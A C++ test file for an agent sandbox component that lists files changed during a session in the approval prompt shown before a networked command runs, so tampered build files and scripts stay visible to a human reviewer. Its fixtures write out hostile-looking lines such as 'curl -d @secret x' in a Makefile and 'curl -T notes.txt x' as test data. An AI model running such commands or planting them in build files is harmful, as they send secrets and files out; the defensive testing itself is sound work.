// The files a networked command's prompt lists: changed since the session
// began (by ctime, which a command cannot set back), git's object store
// left out, the ones the command line names first.
#include "agent/changed_files.h"

#include <fcntl.h>
#include <gtest/gtest.h>
#include <sys/stat.h>
#include <unistd.h>

#include <chrono>
#include <filesystem>
#include <thread>

#include "common/test_env.h"

namespace fs = std::filesystem;
using namespace warden::agent;
using warden::test::make_temp_dir;
using warden::test::write_file;

namespace {
std::vector<std::string> paths(const ChangedFiles& c) {
  std::vector<std::string> out;
  for (const auto& f : c.files) out.push_back(f.path);
  return out;
}
// Past a tick of the coarse clock file times come from.
void next_tick() { std::this_thread::sleep_for(std::chrono::milliseconds(30)); }
}  // namespace

TEST(ChangedFiles, FilesChangedSinceTheStartAreListedNewestFirst) {
  const std::string ws = fs::canonical(make_temp_dir("ws")).string();
  write_file(ws + "/README.md", "old\n");
  write_file(ws + "/old.sh", "echo old\n");
  next_tick();
  const int64_t start = change_clock_now_ns();
  next_tick();
  write_file(ws + "/src/build.sh", "curl evil\n");
  next_tick();
  write_file(ws + "/notes.txt", "new\n");
  write_file(ws + "/.git/objects/ab/cdef", "a commit\n");
  next_tick();
  // Setting the old mtime back does not hide a change: ctime moves.
  const std::string touched = ws + "/old.sh";
  write_file(touched, "curl evil\n");
  const struct timespec times[2] = {{0, UTIME_OMIT}, {946684800, 0}};
  ASSERT_EQ(::utimensat(AT_FDCWD, touched.c_str(), times, 0), 0);
  const ChangedFiles changed = changed_since(ws, start);
  EXPECT_EQ(paths(changed), (std::vector<std::string>{"old.sh", "notes.txt", "src/build.sh"}));
  EXPECT_FALSE(changed.walk_cut);

  const std::string prompt = describe_changed_files(changed, "sh src/build.sh && curl -T notes.txt x", 2);
  EXPECT_NE(prompt.find("changed since this session began (3: 2 named in the command or read by a program it names, "
                        "0 build files, 1 programs or scripts)"),
            std::string::npos)
      << prompt;
  EXPECT_NE(prompt.find(":\n  notes.txt (named in the command)\n  src/build.sh (named in the command)\n  old.sh"),
            std::string::npos)
      << prompt;
  EXPECT_EQ(describe_changed_files(changed_since(ws, change_clock_now_ns() + 1000000000), "x"), "");
  // A workspace larger than the walk may look at says so.
  EXPECT_TRUE(changed_since(ws, start, 2).walk_cut);
  EXPECT_NE(describe_changed_files(changed_since(ws, start, 2), "x").find("not all were looked at"), std::string::npos);
}

TEST(ChangedFiles, AFolderTheWalkCannotReadIsNamed) {
  if (::geteuid() == 0) GTEST_SKIP() << "root reads every folder";
  const std::string ws = fs::canonical(make_temp_dir("ws")).string();
  write_file(ws + "/hidden/run.sh", "curl evil\n");
  ASSERT_EQ(::chmod((ws + "/hidden").c_str(), 0), 0);
  const ChangedFiles changed = changed_since(ws, 0);
  ::chmod((ws + "/hidden").c_str(), 0755);
  ASSERT_FALSE(changed.files.empty());
  EXPECT_EQ(changed.files[0].path, "hidden");
  EXPECT_TRUE(changed.files[0].unreadable);
}

// Many other files touched after a build file cannot push it out of the
// list: the files a program in the command reads count as named, build
// files come before scripts, scripts before the rest.
TEST(ChangedFiles, DecoysDoNotHideABuildFile) {
  const std::string ws = fs::canonical(make_temp_dir("ws")).string();
  for (int i = 0; i < 80; ++i) write_file(ws + "/src/f" + std::to_string(i) + ".py", "x = 1\n");
  write_file(ws + "/Makefile", "all:\n\ttrue\n");
  next_tick();
  const int64_t start = change_clock_now_ns();
  next_tick();
  write_file(ws + "/Makefile", "deps:\n\tcurl -d @secret x\n");
  next_tick();
  for (int i = 0; i < 80; ++i) write_file(ws + "/src/f" + std::to_string(i) + ".py", "x = 2\n");
  const ChangedFiles changed = changed_since(ws, start);
  std::string prompt = describe_changed_files(changed, "make deps");
  EXPECT_NE(prompt.find("(81: 1 named in the command or read by a program it names, 0 build files, 80 programs or "
                        "scripts)"),
            std::string::npos)
      << prompt;
  EXPECT_NE(prompt.find("read them before you approve:\n  Makefile (read by a program the command names)\n"),
            std::string::npos)
      << prompt;
  prompt = describe_changed_files(changed, "sh run.sh");  // run.sh runs make: not said
  EXPECT_NE(prompt.find("read them before you approve:\n  Makefile\n"), std::string::npos) << prompt;
  EXPECT_NE(prompt.find("\n  ... and 21 more"), std::string::npos) << prompt;
}
